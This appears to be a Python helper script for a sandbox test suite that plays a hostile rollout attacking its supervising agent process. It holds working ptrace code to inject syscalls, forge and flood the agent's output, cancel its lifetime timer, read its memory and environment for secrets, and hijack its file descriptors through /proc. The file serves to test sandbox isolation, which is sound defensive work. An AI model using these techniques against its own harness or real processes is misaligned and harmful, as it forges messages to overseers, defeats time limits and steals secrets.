"""Attacks a hostile rollout makes from inside its sandbox (run there as
`python3 -c <this file> <mode> ...` by tests/test_hostile.py). Standard library only,
x86_64. Prints one JSON line with what happened.

    probe PID             ptrace SEIZE/ATTACH PID, open its mem / environ / fd 1, reopen
                          its fds 0 and 1 through /proc (write a forged line, steal one)
    inject PID B64 [N]    make PID write the bytes B64 to its fd 1 (N times) by ptrace
                          syscall injection: the attack on an agent (forged lines, floods)
    reopen_write PID B64  write the bytes B64 onto PID's fd 1 reopened through /proc
    flood PID SECONDS     make PID write 1 MiB without a newline to its fd 1, repeatedly
    alarm0 PID            make PID call alarm(0) (cancel a lifetime timer held in PID)
    readmem PID NEEDLE..  read every readable mapping of PID, say which needles it holds
    own_child             inject a write into this process's own child (a debugger's
                          use; proves the injection works where ptrace is allowed)
    traceme               a child asks to be traced (PTRACE_TRACEME) and execs `true`
    find_agent            pids of processes whose command line is the agent's
    ppid PID              PID's parent
"""

import base64
import ctypes
import json
import os
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PEEKTEXT, POKEDATA, GETREGS, SETREGS, SINGLESTEP, DETACH = 1, 5, 12, 13, 9, 17
TRACEME, ATTACH, SEIZE, INTERRUPT = 0, 16, 0x4206, 0x4207
WALL = 0x40000000
MASK = (1 << 64) - 1


class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
        "fs_base gs_base ds es fs gs").split()]


def pt(req, pid, addr=0, data=0):
    ctypes.set_errno(0)
    r = libc.ptrace(req, pid, ctypes.c_void_p(addr), ctypes.c_void_p(data))
    err = ctypes.get_errno()
    if r == -1 and err:
        raise OSError(err, os.strerror(err))
    return r


def seize(pid):
    pt(SEIZE, pid)
    pt(INTERRUPT, pid)
    os.waitpid(pid, WALL)


def syscall(pid, nr, *args):
    """Run syscall `nr` in stopped tracee `pid` (stopped in a syscall, e.g. a blocking read)."""
    saved = Regs()
    pt(GETREGS, pid, 0, ctypes.addressof(saved))
    if pt(PEEKTEXT, pid, saved.rip - 2) & 0xFFFF != 0x050F:
        raise RuntimeError("the tracee is not stopped after a syscall instruction")
    regs = Regs.from_buffer_copy(saved)
    regs.rip, regs.rax, regs.orig_rax = saved.rip - 2, nr, MASK
    for name, value in zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), args):
        setattr(regs, name, value & MASK)
    pt(SETREGS, pid, 0, ctypes.addressof(regs))
    pt(SINGLESTEP, pid)
    os.waitpid(pid, WALL)
    pt(GETREGS, pid, 0, ctypes.addressof(regs))
    pt(SETREGS, pid, 0, ctypes.addressof(saved))  # back in its read: restarted at detach
    return regs.rax - (1 << 64) if regs.rax >> 63 else regs.rax


def poke(pid, addr, data):
    data += b"\0" * (-len(data) % 8)
    for i in range(0, len(data), 8):
        pt(POKEDATA, pid, addr + i, int.from_bytes(data[i:i + 8], "little"))


def write_as(pid, payload, times=1, seconds=None):
    """Make `pid` write `payload` to its fd 1; returns the bytes written."""
    addr = syscall(pid, 9, 0, len(payload) + 8, 3, 0x22, -1, 0)  # mmap(rw, private|anonymous)
    if addr < 0:
        raise OSError(-addr, "mmap in the tracee")
    poke(pid, addr, payload)
    total, n, end = 0, 0, None if seconds is None else time.monotonic() + seconds
    while (n < times) if end is None else (time.monotonic() < end):
        done = 0
        while done < len(payload):
            got = syscall(pid, 1, 1, addr + done, len(payload) - done)
            if got <= 0:
                raise OSError(-got, "write in the tracee")
            done += got
        total += done
        n += 1
    syscall(pid, 11, addr, len(payload) + 8)  # munmap
    return total


def attempt(fn):
    try:
        return {"ok": True, "value": fn()}
    except OSError as exc:
        return {"ok": False, "errno": exc.errno, "error": str(exc)}
    except Exception as exc:  # noqa: BLE001
        return {"ok": False, "errno": None, "error": repr(exc)}


def probe(pid):
    out = {}

    def seize_and_detach():
        seize(pid)
        pt(DETACH, pid)

    def attach_and_detach():
        pt(ATTACH, pid)
        os.waitpid(pid, WALL)
        pt(DETACH, pid)

    out["seize"] = attempt(seize_and_detach)
    out["attach"] = attempt(attach_and_detach)
    out["mem"] = attempt(lambda: open("/proc/%d/mem" % pid, "rb").close())
    out["environ"] = attempt(lambda: len(open("/proc/%d/environ" % pid, "rb").read()))
    out["fd1"] = attempt(lambda: os.readlink("/proc/%d/fd/1" % pid))
    for fd, how in ((0, os.O_WRONLY), (1, os.O_WRONLY), (0, os.O_RDONLY)):  # reopen the channel: write, steal
        out["reopen%d_%s" % (fd, "w" if how == os.O_WRONLY else "r")] = attempt(
            lambda: os.close(os.open("/proc/%d/fd/%d" % (pid, fd), how | os.O_NONBLOCK)))
    return out


def injected(pid, fn):
    def run():
        seize(pid)
        try:
            return fn()
        finally:
            try:
                pt(DETACH, pid)
            except OSError:
                pass
    return attempt(run)


def readmem(pid, needles):
    found = set()
    with open("/proc/%d/maps" % pid) as maps, open("/proc/%d/mem" % pid, "rb", 0) as mem:
        for line in maps:
            span, perms = line.split()[:2]
            if not perms.startswith("r"):
                continue
            lo, hi = (int(x, 16) for x in span.split("-"))
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except (OSError, OverflowError, ValueError):
                continue
            found.update(n for n in needles if n.encode() in data)
    return sorted(found)


def own_child():
    import subprocess

    child = subprocess.Popen([sys.executable, "-c", "import sys; sys.stdin.buffer.read()"],
                             stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    time.sleep(0.5)  # blocked in its read
    res = injected(child.pid, lambda: write_as(child.pid, b"INJECTED-INTO-CHILD\n"))
    child.stdin.close()
    out = child.stdout.read().decode()
    child.wait()
    return {"inject": res, "child_stdout": out}


def traceme():
    pid = os.fork()
    if pid == 0:
        pt(TRACEME, 0)
        os.execvp("true", ["true"])
    _, status = os.waitpid(pid, 0)
    stopped = os.WIFSTOPPED(status) and os.WSTOPSIG(status) == 5  # SIGTRAP at its exec
    pt(DETACH, pid)
    _, status = os.waitpid(pid, 0)
    return {"stopped_at_exec": stopped, "exit": os.WEXITSTATUS(status) if os.WIFEXITED(status) else None}


def find_agent():
    pids = []
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                with open("/proc/%s/cmdline" % name, "rb") as f:
                    if b"PROTOCOL_VERSION" in f.read():
                        pids.append(int(name))
            except OSError:
                pass
    return pids


def reopen_write(pid, payload):
    """Write `payload` onto PID's stdout reopened through /proc (no ptrace needed)."""
    fd = os.open("/proc/%d/fd/1" % pid, os.O_WRONLY | os.O_NONBLOCK)
    try:
        return os.write(fd, payload)
    finally:
        os.close(fd)


def main(argv):
    mode = argv[0]
    if mode == "probe":
        out = probe(int(argv[1]))
    elif mode == "inject":
        pid, payload = int(argv[1]), base64.b64decode(argv[2])
        out = injected(pid, lambda: write_as(pid, payload, times=int(argv[3]) if len(argv) > 3 else 1))
    elif mode == "reopen_write":
        pid, payload = int(argv[1]), base64.b64decode(argv[2])
        out = attempt(lambda: reopen_write(pid, payload))
    elif mode == "flood":
        pid = int(argv[1])
        out = injected(pid, lambda: write_as(pid, b"x" * (1 << 20), seconds=float(argv[2])))
    elif mode == "alarm0":
        pid = int(argv[1])
        out = injected(pid, lambda: syscall(pid, 37, 0))
    elif mode == "readmem":
        out = attempt(lambda: readmem(int(argv[1]), argv[2:]))
    elif mode == "own_child":
        out = own_child()
    elif mode == "traceme":
        out = attempt(traceme)
    elif mode == "find_agent":
        out = find_agent()
    elif mode == "ppid":
        out = attempt(lambda: int(open("/proc/%d/stat" % int(argv[1])).read().rsplit(")", 1)[1].split()[1]))
    else:
        raise SystemExit("unknown mode %r" % mode)
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
